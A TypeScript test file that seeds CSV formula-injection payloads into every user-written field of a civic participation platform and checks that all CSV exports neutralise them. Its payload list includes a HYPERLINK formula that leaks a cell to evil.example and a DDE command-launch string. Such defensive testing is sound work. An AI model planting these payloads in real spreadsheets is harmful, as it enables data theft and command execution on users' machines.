import { parse } from "csv-parse/sync";
import { eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { arenaEntries } from "../../src/modules/arena/data/schema";
import { budgetHeadings } from "../../src/modules/budget/data/schema";
import { generateVotingCodes } from "../../src/modules/budget/use-cases/generate-codes";
import { monitoringModule } from "../../src/modules/monitoring";
import { monitoringIndicators, monitoringModelVersions } from "../../src/modules/monitoring/data/schema";
import { participationSurveyResponses, participationSurveys } from "../../src/modules/participation/data/schema";
import { measures } from "../../src/modules/strategy/data/schema";
import { seedStrategy } from "../../src/modules/strategy/use-cases/seed-demo-strategy";
import { createAccount, signIn } from "../support/accounts";
import { createTestApp, type TestApp } from "../support/app";
import { BrowserClient } from "../support/browser-client";
import { feasibleProjects, proposalBudget } from "../support/budget";
import { uploadFile } from "../support/panel/browser";
import { insertSurveyProcess } from "../support/participation-survey";

/**
 * Every CSV the platform writes is safe to open in a spreadsheet: text that people wrote (a project
 * title, a heading, a measure, an address in a register extract) and that a spreadsheet would run as
 * a formula reaches the file with a leading apostrophe. The payloads are seeded into every such field,
 * every export is downloaded, and no cell may start with a formula trigger (also after leading blanks).
 */
const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "\uff1dSUM(A1)",
];

const trigger = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

function cells(csv: string): string[] {
  return (parse(csv.replace(/^\uFEFF/, ""), { relax_column_count: true }) as string[][]).flat();
}

/** Asserts that each payload arrived in the export (neutralised) and that no cell can run. */
function expectSafe(csv: string, expected: readonly string[]): void {
  const all = cells(csv);
  for (const cell of all) expect(trigger.test(cell), `cell ${JSON.stringify(cell)}`).toBe(false);
  for (const payload of expected) expect(all).toContain(`'${payload}`);
}

/** A CSV field as a register's export writes it (quoted, quotes doubled), so the payload arrives as it is. */
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

const DAY = 24 * 60 * 60 * 1000;
let t: TestApp;
let now = new Date(Date.UTC(2026, 4, 1, 10));
let office: BrowserClient;
const covered = new Set<string>();

beforeAll(async () => {
  t = await createTestApp({ deps: { clock: () => now } });
  office = new BrowserClient(t.app);
  await signIn(
    office,
    t.deps,
    await createAccount(t.deps, { email: "office@example.org", displayName: "Amt", roles: ["strategy_office"] }),
  );
});
afterAll(() => t.close());

describe("CSV exports with formula payloads in every field people write", () => {
  it("budget: results and voting codes", async () => {
    const start = now.getTime();
    const budget = await proposalBudget(t, {
      slug: "kiezkasse-csv",
      proposalsStart: new Date(start - 30 * DAY),
      reviewStart: new Date(start - 20 * DAY),
      votingStart: new Date(start - 10 * DAY),
      resultsStart: new Date(start + 5 * DAY),
      implementationStart: new Date(start + 40 * DAY),
    });
    const [heading] = await t.deps.database.db
      .select()
      .from(budgetHeadings)
      .where(eq(budgetHeadings.budgetId, budget.id));
    const headingId = heading?.id as string;
    await t.deps.database.db
      .update(budgetHeadings)
      .set({ name: payloads[0] as string })
      .where(eq(budgetHeadings.id, headingId));
    await feasibleProjects(
      t.deps.database.db,
      budget.id,
      now,
      payloads.map((title) => ({ headingId, title, description: title, estimatedCost: 100 })),
    );

    await office.get(`/budgets/${budget.slug}/manage`);
    const codes = await office.post(`/budgets/${budget.slug}/codes`, { headingId, count: "2", format: "csv" });
    expect(codes.headers.get("content-type")).toContain("text/csv");
    expectSafe(await codes.text(), [payloads[0] as string]);
    covered.add("POST /budgets/:slug/codes");

    const { codes: issued } = await generateVotingCodes(
      t.deps,
      { actor: { kind: "system", label: "test" } },
      { budgetId: budget.id, headingId, count: 1 },
    );
    expect(issued).toHaveLength(1);
    now = new Date(start + 6 * DAY);
    const results = await t.app.request(`/budgets/${budget.slug}/results.csv`);
    expect(results.status).toBe(200);
    expectSafe(await results.text(), payloads);
    covered.add("GET /budgets/:slug/results.csv");
  });

  it("strategy: the measures export on the page and in the API", async () => {
    await seedStrategy(t.deps);
    const rows = await t.deps.database.db.select({ id: measures.id }).from(measures).limit(payloads.length);
    for (const [i, row] of rows.entries()) {
      const payload = payloads[i] as string;
      await t.deps.database.db
        .update(measures)
        .set({ titleDe: payload, summaryDe: payload, descriptionDe: payload, titleEn: payload })
        .where(eq(measures.id, row.id));
    }
    const changed = rows.map((r) => r.id);
    expect(changed.length).toBe(payloads.length);
    const stored = await t.deps.database.db.select().from(measures).where(inArray(measures.id, changed));
    expect(stored.map((m) => m.titleDe).sort()).toEqual([...payloads].sort());

    for (const path of ["/measures/export.csv", "/api/v1/measures.csv"]) {
      const response = await t.app.request(path);
      expect(response.status).toBe(200);
      expectSafe(await response.text(), payloads);
      covered.add(`GET ${path}`);
    }
  });

  it("panel: the letters made from a register extract", async () => {
    // Signed in again: the budget's clock moved on past the first session.
    const coordinator = new BrowserClient(t.app);
    await signIn(
      coordinator,
      t.deps,
      await createAccount(t.deps, { email: "panel@example.org", displayName: "Rat", roles: ["strategy_office"] }),
    );
    const office = coordinator;
    await office.get("/panels/new");
    const created = await office.post("/panels/new", {
      name: "Rat CSV",
      size: "6",
      lotterySize: "100",
      quotas: "feature,value,min,max\ngender,female,2,4\ngender,male,2,4\n",
    });
    expect(created.status, office.lastHtml.slice(0, 3000)).toBe(303);
    const panelId = (created.headers.get("location") ?? "").match(/\/panels\/([^/?]+)/)?.[1] as string;
    const extract = [
      "name,street,postcode,city",
      ...payloads.map((p, i) => `${quoted(p)},${quoted(p)},1011${i},Berlin`),
    ].join("\n");
    await office.get(`/panels/${panelId}/manage`);
    const upload = await uploadFile(t, office, `/panels/${panelId}/sample`, "sample", extract);
    expect(upload.status, office.lastHtml.slice(0, 3000)).toBe(303);
    expect((await office.post(`/panels/${panelId}/invitations`, {})).status).toBe(303);
    const letters = await office.get(`/panels/${panelId}/letters.csv`);
    expect(letters.status).toBe(200);
    expectSafe(await letters.text(), payloads);
    covered.add("GET /panels/:id/letters.csv");
  });

  it("arena: the list of entries", async () => {
    for (const payload of payloads)
      await t.deps.database.db.insert(arenaEntries).values({
        kind: "idea",
        title: payload,
        problem: `${payload} – ein Problem, das jemand beschreibt.`,
        createdAt: now,
        updatedAt: now,
        stateChangedAt: now,
      });
    const response = await office.get("/arena/entries.csv");
    expect(response.headers.get("content-type")).toContain("text/csv");
    expectSafe(await response.text(), payloads);
    covered.add("GET /arena/entries.csv");
  });

  it("monitoring: the open-data downloads and the upload template", async () => {
    // The strategy's demo measures are in place from the test above; the monitoring demo adds indicators.
    await monitoringModule.seed?.(t.deps);
    const definitions = await t.deps.database.db.select({ key: monitoringIndicators.key }).from(monitoringIndicators);
    for (const [i, row] of definitions.slice(0, payloads.length).entries()) {
      const payload = payloads[i] as string;
      await t.deps.database.db
        .update(monitoringIndicators)
        .set({ nameDe: payload, nameEn: payload, definitionDe: payload, definitionEn: payload })
        .where(eq(monitoringIndicators.key, row.key));
    }
    const indicators = await t.app.request("/monitoring/indicators.csv");
    expect(indicators.status).toBe(200);
    expectSafe(await indicators.text(), payloads.slice(0, definitions.length));
    covered.add("GET /monitoring/indicators.csv");
    for (const path of ["/monitoring/targets.csv", "/monitoring/observations.csv"]) {
      const response = await t.app.request(path);
      expect(response.status).toBe(200);
      expectSafe(await response.text(), []);
      covered.add(`GET ${path}`);
    }
    const [measure] = await t.deps.database.db
      .select({ slug: measures.slug })
      .from(measures)
      .innerJoin(monitoringModelVersions, eq(monitoringModelVersions.measureId, measures.id))
      .limit(1);
    // The clock moved on in the tests above: a new session for the office.
    const team = new BrowserClient(t.app);
    await signIn(
      team,
      t.deps,
      await createAccount(t.deps, { email: "office2@example.org", displayName: "Amt", roles: ["strategy_office"] }),
    );
    const template = await team.get(`/measures/${measure?.slug}/monitoring/template.csv`);
    expect(template.status).toBe(200);
    expectSafe(await template.text(), []);
    covered.add("GET /measures/:slug/monitoring/template.csv");
  });

  it("participation: a survey's answers, free texts included", async () => {
    const process = await insertSurveyProcess(t.deps.database.db, { slug: "umfrage-mit-formeln", now });
    const [survey] = await t.deps.database.db
      .insert(participationSurveys)
      .values({
        processId: process.id,
        questions: [
          {
            id: "wunsch",
            kind: "long-text",
            text: { de: "Was wünschen Sie sich?", en: "What do you wish for?" },
            required: false,
            choices: [],
            rows: [],
            scaleLabels: null,
            showIf: null,
          },
        ],
        answeredBy: "anonymous",
        updatedAt: now,
      })
      .returning({ id: participationSurveys.id });
    for (const [i, payload] of payloads.entries())
      await t.deps.database.db.insert(participationSurveyResponses).values({
        surveyId: survey?.id ?? "",
        browserKey: `formel-${i}`,
        answers: { wunsch: payload },
        submittedAt: now,
      });
    // The clock moved on in the tests above: a new session for the office.
    const strategyOffice = new BrowserClient(t.app);
    await signIn(
      strategyOffice,
      t.deps,
      await createAccount(t.deps, { email: "office3@example.org", displayName: "Amt", roles: ["strategy_office"] }),
    );
    const response = await strategyOffice.get(`/participation/${process.slug}/survey/results.csv`);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toContain("text/csv");
    expectSafe(await response.text(), payloads);
    covered.add("GET /participation/:slug/survey/results.csv");
  });

  it("covers every route that answers with CSV", () => {
    const csvRoutes = t.app.routes
      .filter((r) => r.method !== "ALL" && /\.csv$/.test(r.path))
      .map((r) => `${r.method} ${r.path}`);
    // Answers CSV on a form choice rather than by its path.
    csvRoutes.push("POST /budgets/:slug/codes");
    for (const route of new Set(csvRoutes)) expect(covered, route).toContain(route);
  });
});
